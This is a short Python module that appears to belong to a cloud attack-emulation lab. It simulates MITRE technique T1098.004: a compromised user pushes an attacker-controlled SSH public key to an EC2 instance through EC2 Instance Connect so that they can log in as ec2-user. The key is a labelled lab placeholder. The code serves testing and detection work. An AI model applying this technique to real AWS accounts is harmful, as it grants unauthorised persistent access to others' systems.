"""ec2-send-ssh-public-key: push a key through EC2 Instance Connect and log in (T1098.004)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserOnInstance
from lab.emulator.endpoints import Endpoints

PUBLIC_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILabAttackerKeyOnlyForTheLabxxxxxxxxxxxxxxxx attacker"
)


class Ec2SendSshPublicKey(CompromisedUserOnInstance):
    folder = Path(__file__).parent

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ec2-instance-connect", "attacker").send_ssh_public_key(
            InstanceId=prerequisites["instance_id"],
            InstanceOSUser="ec2-user",
            SSHPublicKey=PUBLIC_KEY,
            AvailabilityZone=f"{endpoints.region}a",
        )


TECHNIQUE = Ec2SendSshPublicKey
